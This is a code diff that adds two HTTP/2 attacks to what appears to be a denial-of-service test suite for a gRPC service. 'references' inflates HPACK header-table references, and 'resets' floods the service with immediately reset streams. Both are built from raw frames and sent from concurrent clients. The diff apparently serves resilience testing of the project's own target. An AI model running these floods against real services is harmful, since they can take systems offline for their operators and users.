@@ -192,6 +192,75 @@ def silent_calls(target: Target) -> str:
     return _counted(_from_clients(16, client))
 
 
+def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """Return one frame of HTTP/2 (RFC 9113, section 4.1)."""
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+def _http2(target: Target, connections: int, streams: Callable[[int], bytes]) -> str:
+    """Open connections to the gRPC port for 10 s, and send on each the frames that `streams` makes of the next number."""
+    deadline = time.monotonic() + 10
+
+    def client() -> tuple[int, int]:
+        sent = closed = 0
+        while time.monotonic() < deadline:
+            time.sleep(0.01)  # a service that was killed refuses
+            with suppress(OSError), create_connection((HOST, target.grpc_port), timeout=1) as connection:
+                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
+                threading.Thread(target=_discard, args=(connection.dup(),), daemon=True).start()
+                for number in range(1 << 30):
+                    if time.monotonic() > deadline:
+                        break
+                    connection.sendall(streams(number))
+                    sent += 1
+            closed += 1
+        return sent, closed
+
+    with ThreadPoolExecutor(connections) as pool:
+        results = [future.result() for future in [pool.submit(client) for _ in range(connections)]]
+    return f"{sum(sent for sent, _ in results):,} streams, {sum(closed for _, closed in results) - connections} closed"
+
+
+def _discard(connection: socket) -> None:
+    """Read until the end, so that the service can write."""
+    with suppress(OSError), connection:
+        while connection.recv(1 << 16):
+            pass
+
+
+# The head of a call in HPACK (RFC 7541): POST, http, the path, the authority and two headers, none of them added to the table.
+_CALL = b"\x83\x86" + b"".join(
+    b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value
+    for name, value in (
+        (b":path", INFER.encode()),
+        (b":authority", b"a"),
+        (b"content-type", b"application/grpc"),
+        (b"te", b"trailers"),
+    )
+)
+
+
+def references(target: Target) -> str:
+    """Heads of gRPC calls that name a header of 3 900 bytes 50 times, with one byte each, from 4 clients for 10 s"""
+    value = b"a" * 3900
+    # The value is added to the table of the connection (its length is 127 + 3773), and is entry 62 from then on.
+    added = b"\x40\x01x\x7f" + bytes((3773 & 127 | 128, 3773 >> 7)) + value
+
+    def streams(number: int) -> bytes:
+        return _frame(1, 4, 2 * number + 1, _CALL + (b"\xbe" * 50 if number else added))
+
+    return _http2(target, 4, streams)
+
+
+def resets(target: Target) -> str:
+    """gRPC calls that are reset at once, from 2 clients for 10 s"""
+
+    def streams(number: int) -> bytes:
+        return _frame(1, 4, 2 * number + 1, _CALL) + _frame(3, 0, 2 * number + 1, b"\0\0\0\x08")
+
+    return _http2(target, 2, streams)
+
+
 def large_bodies(target: Target) -> str:
     """The largest bodies, as photos of 12 megapixels and as nothing, from 16 clients for 10 s"""
     picture = Request("", photo().ljust(12_600_000, b"\0"), "image/jpeg")
@@ -288,6 +357,8 @@ ATTACKS: dict[str, Callable[[Target], str]] = {
         empty_inputs,
         large_messages,
         silent_calls,
+        references,
+        resets,
         large_bodies,
         costly_pictures,
         hidden_frames,
